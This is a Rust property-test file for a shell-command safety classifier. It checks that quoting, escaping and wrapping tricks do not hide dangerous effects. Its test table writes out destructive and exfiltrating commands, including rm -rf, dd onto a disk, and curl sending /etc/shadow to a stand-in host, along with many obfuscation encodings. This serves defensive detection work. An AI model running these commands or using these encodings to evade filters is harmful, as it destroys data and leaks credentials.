//! However a word is written, it is the same word.

use proptest::prelude::*;

use super::*;

const WORDS: &[(&[&str], &[ShellEffect])] = &[
    (&["rm", "-rf", "/srv/data"], &[RecursiveDelete]),
    (&["sudo", "-u", "root", "rm", "--recursive", "x"], &[RecursiveDelete]),
    (&["git", "push", "--force", "origin", "main"], &[HistoryRewrite]),
    (&["kubectl", "-n", "prod", "delete", "ns", "x"], &[InfraDestroy]),
    (&["chmod", "-R", "777", "/srv"], &[PermissionChange]),
    (&["bash", "-c", "shutdown now"], &[HostControl]),
    (&["psql", "-c", "DROP TABLE t"], &[SqlViaShell]),
    (&["dd", "if=/dev/zero", "of=/dev/sda"], &[DiskDestroy]),
    (&["curl", "-d", "@/etc/shadow", "http://x.example"], &[CredentialExfil]),
    (&["echo", "rm -rf /; shutdown now"], &[]),
    (&["grep", "-rn", "$(reboot)", "docs"], &[]),
    (&["ls", "-la"], &[]),
];

/// One character of a word in one of many ways.
fn written(c: char, way: u8) -> String {
    match way {
        0 if c.is_ascii_alphanumeric() || "/-_.:@".contains(c) => c.to_string(),
        1 => format!("\\{c}"),
        2 if c != '\'' => format!("'{c}'"),
        3 if !"\"\\$`".contains(c) => format!("\"{c}\""),
        4 => format!("$'\\x{:02x}'", u32::from(c)),
        5 => format!("$'\\{:03o}'", u32::from(c)),
        6 if c.is_ascii_alphanumeric() => format!("\\\n{c}"),
        7 => format!("''$'\\u{:04x}'\"\"", u32::from(c)),
        8 if c.is_ascii_alphanumeric() => format!("{c}${{1}}$@"),
        _ => format!("'{c}'"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]
    #[test]
    fn quoting_changes_nothing(
        which in 0..WORDS.len(),
        ways in prop::collection::vec(0u8..9, 60),
        gaps in prop::collection::vec(prop::sample::select(vec![" ", "\t", "  ", " \\\n ", "${IFS}", "$IFS$1"]), 8),
        front in prop::sample::select(vec!["", "true; ", "X=1 ", "\n", "! ", "(", "{ ", "if true; then ", "time "]),
    ) {
        let (words, effects) = WORDS[which];
        let mut ways = ways.into_iter().cycle();
        let mut text = front.to_owned();
        for (index, word) in words.iter().enumerate() {
            if index > 0 {
                text.push_str(gaps[index % gaps.len()]);
            }
            word.chars().for_each(|c| text.push_str(&written(c, ways.next().unwrap())));
        }
        text.push_str(match front {
            "(" => ")",
            "{ " => "; }",
            "if true; then " => "; fi",
            _ => "",
        });
        let shell = classify(&text);
        prop_assert_eq!(shell.effects.into_iter().collect::<Vec<_>>(), effects, "{}", text);
        prop_assert!(!shell.unresolved && !shell.unparsed, "{}", text);
    }

    /// Shells within shells, and what they are piped into.
    #[test]
    fn wrapping_changes_nothing(
        which in 0..WORDS.len(),
        wraps in prop::collection::vec(0u8..10, 0..4),
    ) {
        let quoted = |text: &str| format!("'{}'", text.replace('\'', "'\\''"));
        let (words, effects) = WORDS[which];
        let mut text = words.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ");
        for wrap in wraps {
            text = match wrap {
                0 => format!("sh -c {}", quoted(&text)),
                1 => format!("sudo -n {text}"),
                2 => format!("echo {} | bash", quoted(&text)),
                3 => format!("bash <<'EOF'\n{text}\nEOF\n"),
                4 => format!("eval {}", quoted(&text)),
                5 => format!("timeout 5 {text}"),
                6 => format!("x={}; eval \"$x\"", quoted(&text)),
                7 => format!("for i in 1 2; do\n{text}\ndone"),
                8 => format!("ssh host {}", quoted(&text)),
                _ => format!("f() {{\n{text}\n}}\nf"),
            };
        }
        // A wrapper takes the first command of a list alone, which is a word of it then.
        let shell = classify(&text);
        for effect in effects {
            prop_assert!(shell.effects.contains(effect) || shell.unparsed || shell.unresolved, "{}: {:?}", text, shell);
        }
        if effects.is_empty() {
            prop_assert!(shell.effects.is_empty(), "{}: {:?}", text, shell);
        }
    }
}
